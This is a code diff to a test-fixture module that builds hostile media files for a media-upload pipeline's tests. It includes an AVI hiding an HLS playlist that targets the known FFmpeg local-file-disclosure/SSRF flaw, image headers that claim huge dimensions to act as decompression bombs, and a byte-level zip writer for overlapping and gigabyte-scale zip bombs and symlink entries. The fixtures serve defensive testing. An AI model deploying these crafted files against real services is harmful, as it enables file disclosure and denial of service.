@@ -1,10 +1,16 @@
-"""Test media made on the spot: FFmpeg's lavfi test sources, reportlab, Pillow and zxing-cpp.
+"""Test media made on the spot: FFmpeg's lavfi test sources, reportlab, Pillow and zxing-cpp; and hostile
+files (bomb headers, crafted zips, a playlist hidden in an AVI) written byte by byte.
 
 lavfi is an FFmpeg input that generates pictures and sound; it is fine here because these
 commands are ours, never an upload's.
 """
+import functools
+import io
+import stat
 import struct
 import subprocess
+import zlib
+from dataclasses import dataclass
 from pathlib import Path
 
 import zxingcpp
@@ -79,10 +85,13 @@ def make_truncated_mp4(src, dest) -> Path:
     return Path(dest)
 
 
-def make_hls_in_avi(path, canary_file, canary_url) -> Path:
+def make_hls_in_avi(path, canary_file, canary_url, *, frame: Image.Image | None = None, frames: int = 5) -> Path:
     """The classic FFmpeg file-disclosure/SSRF shape (2017): an AVI whose subtitle stream holds a
     GAB2 chunk, and that chunk is an HLS playlist pointing at a local file and a URL. An FFmpeg
-    that hands the chunk to whatever demuxer it looks like follows the playlist."""
+    that hands the chunk to whatever demuxer it looks like follows the playlist.
+
+    With ``frame``, the AVI also carries a real video stream (``frames`` MJPEG frames of that picture),
+    so it gets through probing into every later step: cover, rendition and the scan of frames."""
     playlist = (
         "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:1\n"
         f"#EXTINF:1.0,\nfile://{Path(canary_file).resolve()}\n"
@@ -98,13 +107,109 @@ def make_hls_in_avi(path, canary_file, canary_url) -> Path:
     def riff_list(kind: bytes, *chunks: bytes) -> bytes:
         return chunk(b"LIST", kind + b"".join(chunks))
 
-    frame_us, frames, width, height = 40_000, 1, 320, 240
-    main_header = struct.pack("<10I16x", frame_us, 0, 0, 0, frames, 0, 1, 0, width, height)
-    # stream header: a text stream ("txts") with no codec tag, one frame at 25/s
-    stream_header = struct.pack("<4s4sIHHIIIIIIII4h", b"txts", b"\x00" * 4, 0, 0, 0, 0, 1, 25, 0, frames,
-                                len(gab2), 0, 0, 0, 0, width, height)
-    header = riff_list(b"hdrl", chunk(b"avih", main_header),
-                       riff_list(b"strl", chunk(b"strh", stream_header), chunk(b"strf", b"\x00" * 4)))
-    movie = riff_list(b"movi", chunk(b"00tx", gab2))
+    def stream_header(kind: bytes, handler: bytes, length: int, buffer: int) -> bytes:
+        # fccType, fccHandler, flags, priority, language, initial frames, scale, rate (25/s), start,
+        # length, suggested buffer, quality, sample size, frame rectangle
+        return struct.pack("<4s4sIHHIIIIIIII4h", kind, handler, 0, 0, 0, 0, 1, 25, 0, length, buffer, 0, 0,
+                           0, 0, width, height)
+
+    width, height = frame.size if frame is not None else (320, 240)
+    streams, movie_chunks = [], []
+    if frame is not None:
+        jpeg = io.BytesIO()
+        frame.convert("RGB").save(jpeg, "JPEG")
+        bitmap = struct.pack("<IiiHH4sIiiII", 40, width, height, 1, 24, b"MJPG", width * height * 3, 0, 0, 0, 0)
+        streams.append(riff_list(b"strl", chunk(b"strh", stream_header(b"vids", b"MJPG", frames, len(jpeg.getvalue()))),
+                                 chunk(b"strf", bitmap)))
+        movie_chunks += [chunk(b"00dc", jpeg.getvalue())] * frames
+    text_number = len(streams)
+    # a text stream ("txts") with no codec tag, one frame
+    streams.append(riff_list(b"strl", chunk(b"strh", stream_header(b"txts", b"\x00" * 4, 1, len(gab2))),
+                             chunk(b"strf", b"\x00" * 4)))
+    movie_chunks.insert(0, chunk(b"%02dtx" % text_number, gab2))
+    main_header = struct.pack("<10I16x", 40_000, 0, 0, 0, frames if frame is not None else 1, 0, len(streams), 0,
+                              width, height)
+    header = riff_list(b"hdrl", chunk(b"avih", main_header), *streams)
+    movie = riff_list(b"movi", *movie_chunks)
     Path(path).write_bytes(chunk(b"RIFF", b"AVI " + header + movie))
     return Path(path)
+
+
+# --- bombs and crafted archives ------------------------------------------------------------------
+
+MiB = 1024 * 1024
+
+
+def image_claiming(format: str, width: int, height: int) -> bytes:
+    """A tiny PNG, JPEG or GIF whose header claims ``width`` × ``height`` pixels: a decompression bomb's
+    header, without the pixels (a decoder trusting it would allocate them all)."""
+    if format == "PNG":
+        def chunk(kind, data):
+            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+        return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+                + chunk(b"IDAT", zlib.compress(bytes(64))) + chunk(b"IEND", b""))
+    if format == "JPEG":
+        small = io.BytesIO()
+        Image.new("RGB", (16, 16), "grey").save(small, "JPEG")
+        data = bytearray(small.getvalue())
+        frame = data.index(b"\xff\xc0")  # baseline frame header: length, precision, then height and width
+        data[frame + 5:frame + 9] = struct.pack(">HH", height, width)
+        return bytes(data)
+    if format == "GIF":
+        screen = struct.pack("<HH", width, height)
+        image = b"," + struct.pack("<HH", 0, 0) + screen + b"\x00" + b"\x02\x02\x44\x01\x00"  # descriptor, a few pixels
+        return b"GIF89a" + screen + b"\x00\x00\x00" + image + b";"
+    raise ValueError(format)
+
+
+@functools.cache
+def deflated_repeat(byte: bytes, mib: int) -> tuple[bytes, int]:
+    """A raw deflate stream of ``mib`` MiB of ``byte`` (about 1 KB a MiB) and the CRC-32 of what it inflates
+    to, made by compressing one MiB only: after a full flush deflate starts afresh, so that block repeats."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    piece = byte * MiB
+    block = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
+    crc = 0
+    for _ in range(mib):
+        crc = zlib.crc32(piece, crc)
+    return block * mib + b"\x03\x00", crc  # then an empty final block
+
+
+@dataclass(frozen=True)
+class ZipMember:
+    name: str
+    data: bytes = b""
+    inflates_to: tuple[bytes, int] | None = None  # (byte, MiB): deflated_repeat's output instead of data
+    symlink: bool = False  # data is the link's target, as zip tools store it
+    shares_data_of: int | None = None  # an earlier member's index: its central entry points at that member's data
+
+
+def raw_zip(members: list[ZipMember]) -> bytes:
+    """A zip written byte by byte, so that it can hold what zip libraries will not write: members of
+    gigabytes never compressed here, symlinks, any name at all, and entries sharing one member's data
+    (the "overlapping" bomb). Plain members are deflated; sizes stay under zip64's 4 GiB."""
+    body, central, placed = bytearray(), bytearray(), []
+    for member in members:
+        name = member.name.encode()
+        if member.inflates_to is not None:
+            byte, mib = member.inflates_to
+            data, crc = deflated_repeat(byte, mib)
+            size = mib * MiB
+        else:
+            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
+            data = compressor.compress(member.data) + compressor.flush()
+            crc, size = zlib.crc32(member.data), len(member.data)
+        if member.shares_data_of is not None:
+            offset, data, crc, size = placed[member.shares_data_of]
+        else:
+            offset = len(body)
+            body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, 0, 0x21, crc, len(data), size,
+                                len(name), 0) + name + data
+        placed.append((offset, data, crc, size))
+        mode = (stat.S_IFLNK | 0o777) if member.symlink else (stat.S_IFREG | 0o644)
+        # made by Unix (3) so that the mode in the external attributes counts
+        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0x800, 8, 0, 0x21, crc, len(data), size,
+                               len(name), 0, 0, 0, 0, mode << 16, offset) + name
+    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(body), 0)
+    return bytes(body + central + end)
